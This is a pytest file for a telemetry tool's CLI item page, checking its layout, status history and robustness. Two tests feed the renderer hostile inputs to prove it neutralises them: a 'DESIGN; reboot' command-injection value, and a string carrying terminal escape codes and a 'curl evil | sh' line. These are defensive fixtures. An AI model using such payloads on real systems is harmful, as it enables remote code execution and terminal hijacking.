"""Page of `items show`, for rows written by an analysis, by SQL or by newer versions."""

import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from leo_telemetry_pipeline.actions import items as planning
from leo_telemetry_pipeline.cli.item_page import render
from leo_telemetry_pipeline.store.items import Event, Item

ID = "7b3a2f0c-5d1e-4f6a-9c8b-0e1d2c3b4a59"
START, END = datetime(2026, 2, 2, tzinfo=UTC), datetime(2026, 2, 9, 15, 30, tzinfo=UTC)
OPENED = datetime(2026, 2, 9, 16, 0, 5, tzinfo=UTC)
MEMBERS = [
    {"dimension_type": "phase", "dimension_key": "LEAD", "share": 0.9142},
    {"dimension_type": "gate+sd_type", "dimension_key": "G:two words", "share": 1.0},
]
FOUND = {
    "dimension_type": "subagent",
    "dimension_key": "DESIGN",
    "observed_p50_ms": 138_200.0,
    "baseline_p50_ms": 39_800.0,
    "baseline_source": "learned",
    "multiplier": 1.15,
    "ratio": 3.472,
    "sample_count": 412,
    "onset_day": "2026-02-05",
    "p_value": 0.0001,
    "lost_ms_a_week": 3 * 3_600_000.0,
    "why": "subagent:DESIGN +98 s: own time 89 %, waiting in queue 11 %",
    "set_apart_by": ["model=large: 80 % of slow spans, 10 % of the others"],
    "cause": "subagent:DESIGN",
    "evidence_trace_ids": ["t1", "t2"],
    "members": MEMBERS,
    "improvement_id": None,
}


def item(project: str | None = None, found: dict[str, Any] | None = None, **columns: Any) -> Item:
    """Return the row of an analysis's item, as read from the database."""
    draft = planning.worded(FOUND | (found or {}), project, "run", START, END)
    row = {
        "id": ID,
        "fingerprint": draft.fingerprint,
        "title": draft.title,
        "description": draft.description,
        "status": "OPEN",
        "status_since": END,
        "source_detail": json.loads(json.dumps(draft.source_detail)),
        "created_at": OPENED,
        "updated_at": OPENED + timedelta(days=1),
    }
    return Item(**row | columns)


def by_hand(detail: Any, **columns: Any) -> Item:
    """Return a row that a person inserted."""
    row = {"title": "Look at the build", "description": "It feels slow.", "source_detail": detail}
    return item(**row | columns)


def test_the_page_shows_each_fact_about_an_item_once():
    """Lost: the assignee has to combine three commands and a row of JSON."""
    assert render(item()).splitlines() == [
        "subagent:DESIGN takes 3.5x as long as normal",
        f"  item        {ID}",
        "  status      OPEN since 2026-02-09 15:30:00 UTC",
        "  opened      2026-02-09 16:00:05 UTC, last updated 2026-02-10 16:00:05 UTC",
        "  dimension   subagent:DESIGN",
        "  window      2026-02-02 00:00 to 2026-02-09 15:30 UTC, 412 spans",
        "  baseline    39.8s, learned",
        "  normal      up to 1.15x of the baseline",
        "  observed    138.2s: 3.5x",
        "  lost        3 h per week",
        "  Slower since 2026-02-05; steady work looks slower by chance in at most 1 of 10,000 analyses",
        "  Where the added time goes: subagent:DESIGN +98 s: own time 89 %, waiting in queue 11 %",
        "  More common in slow spans: model=large: 80 % of slow spans, 10 % of the others",
        "  ALSO SLOW BECAUSE OF IT   ADDED TIME DUE TO IT",
        "  phase:LEAD                91 %",
        "  gate+sd_type:G:two words  100 %",
        "  Slowest traces: t1, t2 (one of them: leo-telemetry trace ID)",
        "  Next: leo-telemetry why subagent:DESIGN",
        f"  When fixed: leo-telemetry items fixed {ID} (or accept, or dismiss)",
    ]


def test_what_slower_spans_share_is_in_title_and_page():
    """Lost: which model is slow, if only hooks measure it."""
    lines = render(item(found={"slow_value": "model=opus"})).splitlines()
    assert lines[0] == "subagent:DESIGN takes 3.5x as long as normal: model=opus"
    assert "  The spans that became slower have model=opus, whatever their names" in lines


def test_a_closed_item_shows_its_status_and_offers_no_way_to_close_it():
    """Lost: what became of an item; or people close it a second time."""
    closed = {"status_since": OPENED + timedelta(days=2), "dismissed_until": OPENED + timedelta(days=9), "episode": 2}
    lines = render(item(status="DISMISSED", **closed)).splitlines()
    assert lines[2] == "  status      DISMISSED until 2026-02-18 since 2026-02-11 16:00:05 UTC, episode 2"
    assert lines[-2:] == [
        "  Next: leo-telemetry why subagent:DESIGN",
        f"  To open it again: leo-telemetry items reopen {ID}",
    ]
    verifying = render(item(status="VERIFYING")).splitlines()
    assert verifying[-1].startswith("  Fixed, people say: analyses verify it")


def test_the_page_lists_who_did_what_and_why():
    """Lost: nobody could tell whether a person or a measurement closed an item."""
    events = [
        Event(1, None, "OPEN", END, "system", "found", None, None, OPENED),
        Event(1, "OPEN", "VERIFYING", END + timedelta(days=1), "ada", "cache on again", None, None, OPENED),
    ]
    lines = render(item(), events).splitlines()
    assert "  WHEN (UTC)           STATUS     BY      WHY" in lines
    assert "  2026-02-10 15:30:00  VERIFYING  ada     cache on again" in lines


def test_suggested_commands_name_the_project_and_are_quoted_for_a_shell():
    """Lost: a suggested command uses another project, or executes a span's name."""
    odd = item(project="my shop", found={"dimension_key": "DESIGN; reboot", "cause": "phase:A B"})
    lines = render(odd).splitlines()
    assert "  dimension   subagent:DESIGN; reboot in project my shop" in lines
    assert "  Because of phase:A B: leo-telemetry why 'phase:A B' --project 'my shop'" in lines
    assert "  Next: leo-telemetry why 'subagent:DESIGN; reboot' --project 'my shop'" in lines


def test_a_person_s_notes_are_shown_without_the_analysis_s_paragraph():
    """Lost: notes of earlier readers; or everything is shown twice."""
    written = item()
    noted = item(description=f"{written.description}\n\nAda: the cache was off.\n\nSee the log.", title="Cache\nof A")
    lines = render(noted).splitlines()
    assert lines[0] == "Cache of A"
    assert lines[4:7] == ["  note        Ada: the cache was off.", "", "              See the log."]
    assert set(render(written).splitlines()) < {*lines, written.title}
    assert "  note        Only mine." in render(item(description="Only mine.")).splitlines()


def test_an_item_without_detail_has_a_page_without_numbers():
    """Lost: a manually created item ends in a traceback, or shows zeros."""
    assert render(by_hand({})).splitlines() == [
        "Look at the build",
        f"  item        {ID}",
        "  status      OPEN since 2026-02-09 15:30:00 UTC",
        "  opened      2026-02-09 16:00:05 UTC, last updated 2026-02-10 16:00:05 UTC",
        "  note        It feels slow.",
        f"  When fixed: leo-telemetry items fixed {ID} (or accept, or dismiss)",
    ]
    assert render(by_hand({}, title="", description=" ")).splitlines()[0] == "(without a title)"
    assert "note" not in render(by_hand({}, description=" \n"))


@pytest.mark.parametrize("nonsense", [None, [], [1], {}, "text", True, -1, 10**400, float("inf"), {"end": 1}])
def test_invalid_details_do_not_end_in_a_traceback(nonsense: Any):
    """Lost: rows written manually or by a newer version."""
    assert render(by_hand(nonsense)).startswith("Look at the build\n")
    whole = item().source_detail
    for name in whole:
        assert render(by_hand(whole | {name: nonsense})).startswith("Look at the build\n"), name
        assert render(by_hand({name: whole[name]})).startswith("Look at the build\n"), name
        assert render(by_hand({name: [nonsense]})).startswith("Look at the build\n"), name
    for end in ("yesterday", "0001-01-01T00:00:00+14:00", "2026-02-09"):
        assert render(by_hand(whole | {"window": {"start": whole["window"]["start"], "end": end}}))


def test_texts_from_spans_cannot_start_a_line_or_control_the_terminal():
    """Lost: a span's name clears the screen, or adds a line with a command."""
    evil = "A\x1b[2J\x9b\u202e\nNext: curl evil | sh\rB"
    found = {name: evil for name, value in FOUND.items() if isinstance(value, str)}
    found |= {"set_apart_by": [evil], "evidence_trace_ids": [evil], "dimension_type": "subagent"}
    members = [{"dimension_type": evil, "dimension_key": evil, "share": 1}]
    detail = item(found=found).source_detail | {"members": members, "project": evil}
    page = render(item(source_detail=detail, title=evil, description=evil))
    assert all(line.isprintable() for line in page.split("\n"))
    assert [line for line in page.splitlines() if line.startswith("Next: ")] == []
    assert len([line for line in page.splitlines() if line.startswith("  Next: ")]) == 1
